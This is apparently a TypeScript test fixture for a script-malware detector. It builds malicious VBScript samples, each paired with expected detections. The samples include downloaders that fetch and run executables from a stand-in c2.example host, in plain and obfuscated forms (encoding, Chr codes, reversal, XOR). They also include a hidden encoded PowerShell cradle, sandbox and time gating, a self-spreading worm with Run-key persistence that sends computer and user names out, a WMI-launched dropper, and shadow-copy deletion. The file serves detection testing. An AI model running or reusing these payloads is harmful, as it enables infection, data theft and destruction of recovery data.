// VBScript as it comes by mail: in the open, encoded, put together.
import { encodeScript } from '../../file/script/encode-script.ts'
import type { HarmfulScript } from './script-case.ts'

const C2 = 'http://c2.example/'
const dropper = (name: string): string => `Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "${C2}${name}.bin", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write h.responseBody
p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\${name}.exe"
s.SaveToFile p, 2 : s.Close
CreateObject("WScript.Shell").Run p, 0, False
`
const found = (name: string) => ({
  ids: ['trace_downloads_and_runs'],
  attack: ['T1105'],
  urls: [`${C2}${name}.bin`],
  files: [`\\temp\\${name}.exe`],
  commands: [`\\temp\\${name}.exe`],
})
const codes = (text: string): readonly number[] => [...text].map((char) => char.charCodeAt(0))
const chrs = (text: string): string =>
  codes(text)
    .map((one) => `Chr(${one})`)
    .join(' & ')
const doubled = (text: string): string => text.replaceAll('"', '""')

export const harmfulVisualBasic: readonly HarmfulScript[] = [
  { name: 'dropper in the open', file: 'scan.vbs', source: dropper('v0'), ...found('v0') },
  {
    name: 'dropper, encoded by the script encoder',
    file: 'scan.vbe',
    source: encodeScript(dropper('v1')),
    ...found('v1'),
  },
  {
    name: 'dropper, characters by number',
    file: 'chr.vbs',
    source: `Execute(${chrs(dropper('v2'))})`,
    ...found('v2'),
  },
  {
    name: 'dropper, reversed, in a function of its own',
    file: 'rev.vbs',
    source: `Function q(s)\nq = StrReverse(s)\nEnd Function\nExecuteGlobal q("${doubled([...dropper('v3').replaceAll('\n', ':').replaceAll('::', ':')].reverse().join(''))}")`,
    ...found('v3'),
  },
  {
    name: 'dropper, hexadecimal pairs with an exclusive or',
    file: 'xor.vbs',
    source: `k = "7Gh"\nd = "${codes(dropper('v4'))
      .map((one, at) => (one ^ '7Gh'.charCodeAt(at % 3)).toString(16).padStart(2, '0'))
      .join(
        '',
      )}"\nFor i = 1 To Len(d) Step 2\nn = (i - 1) / 2\nr = r & Chr(CLng("&H" & Mid(d, i, 2)) Xor Asc(Mid(k, (n Mod 3) + 1, 1)))\nNext\nExecute r`,
    ...found('v4'),
  },
  {
    name: 'dropper, array of numbers less a key, joined by replacements',
    file: 'arr.vbs',
    source: `a = Array(${codes(dropper('v5'))
      .map((one) => one + 13)
      .join(',')})\nFor Each c In a\nt = t & ChrW(c - 13)\nNext\nExecuteGlobal Replace(t, "~", "")`,
    ...found('v5'),
  },
  {
    name: 'dropper, marks split out of it, a class, an error passed over',
    file: 'class.vbs',
    source: `On Error Resume Next\nClass Z\nPublic Function u(s)\nu = Join(Split(s, "#@!"), "")\nEnd Function\nEnd Class\nSet z0 = New Z\nx = 1 / 0\nExecute z0.u("${doubled(
      dropper('v6').replaceAll('\n', ':').replaceAll('e', '#@!e'),
    )}")`,
    ...found('v6'),
  },
  {
    name: 'powershell hidden, base64 through the document object',
    file: 'ps.vbs',
    source: `Set w = CreateObject("W" & "Script.Sh" & "ell")\nc = "powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${C2}vb.ps1')`, 'utf16le').toString('base64')}"\nw.Run c, 0, False`,
    ids: [
      'trace_runs_encoded_powershell',
      'trace_hides_powershell',
      'trace_downloads_and_runs',
      'trace_script_starts_shell',
    ],
    urls: [`${C2}vb.ps1`],
    commands: ['powershell -nop'],
  },
  {
    name: 'only after ten minutes and not on a machine of one processor',
    file: 'wait.vbs',
    source: `WScript.Sleep 600000\nFor Each c In GetObject("winmgmts:").InstancesOf("Win32_ComputerSystem")\nn = c.NumberOfLogicalProcessors\nNext\nIf n > 1 Then\n${dropper('v7')}End If`,
    ...found('v7'),
  },
  {
    name: 'only next year',
    file: 'year.vbs',
    source: `If Year(Now) >= 2027 Then\n${dropper('v8')}End If`,
    ...found('v8'),
  },
  {
    name: 'start-up folder, Run key, a copy of itself on every drive',
    file: 'worm.vbs',
    source: `Set f = CreateObject("Scripting.FileSystemObject") : Set s = CreateObject("WScript.Shell")
me_ = WScript.ScriptFullName
f.CopyFile me_, s.SpecialFolders("Startup") & "\\upd.vbs"
s.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "wscript.exe //B " & Chr(34) & me_ & Chr(34), "REG_SZ"
For Each d In f.Drives
If d.IsReady And d.DriveType = 1 Then f.CopyFile me_, d.Path & "\\upd.vbs"
Next
Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")
h.Open "POST", "${C2}is-ready", False
h.setRequestHeader "user-agent:", s.ExpandEnvironmentStrings("%COMPUTERNAME%") & "<|>" & s.ExpandEnvironmentStrings("%USERNAME%")
h.Send "x"
Execute h.ResponseText`,
    ids: ['trace_writes_startup_folder', 'trace_sets_run_key', 'trace_sends_data_out'],
    attack: ['T1547.001'],
    urls: [`${C2}is-ready`],
    registry: ['\\run\\upd'],
    files: ['startup\\upd.vbs'],
  },
  {
    name: 'a program in base64 through the XML object',
    file: 'b64.vbs',
    source: `Set x = CreateObject("Msxml2.DOMDocument.3.0") : Set e = x.CreateElement("b")
e.DataType = "bin.base64" : e.Text = "${Buffer.from(`MZ${'\0'.repeat(120)}harmless${'\0'.repeat(90)}`).toString('base64')}"
Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write e.NodeTypedValue
s.SaveToFile "C:\\ProgramData\\drv.exe", 2
GetObject("winmgmts:root\\cimv2:Win32_Process").Create "C:\\ProgramData\\drv.exe", Null, Null, pid`,
    ids: ['trace_carries_program', 'trace_runs_dropped_program', 'trace_starts_process_indirectly'],
    files: ['programdata\\drv.exe'],
    commands: ['drv.exe'],
  },
  {
    name: 'shadow copies away by WMI and files renamed',
    file: 'shadow.vbs',
    source: `For Each s In GetObject("winmgmts:\\\\.\\root\\cimv2").ExecQuery("SELECT * FROM Win32_ShadowCopy")\ns.Delete_\nNext\nCreateObject("WScript.Shell").Run "cmd /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no", 0, True`,
    ids: ['trace_destroys_recovery'],
    attack: ['T1490'],
    commands: ['vssadmin delete shadows'],
    label: 'suspicious',
  },
  {
    name: 'HTML application in VBScript that fetches with PowerShell',
    file: 'doc.hta',
    source: `<html><head><hta:application showintaskbar=no></head><body><script language="VBScript">\nSub Window_OnLoad\nSet s = CreateObject("WScript.Shell")\ns.Run "powershell -w 1 -ep bypass -c ""iwr ${C2}h.exe -OutFile $env:APPDATA\\h.exe; start $env:APPDATA\\h.exe""", 0\nself.close\nEnd Sub\n</script></body></html>`,
    ids: ['trace_hides_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}h.exe`],
    commands: ['powershell -w 1'],
  },
]
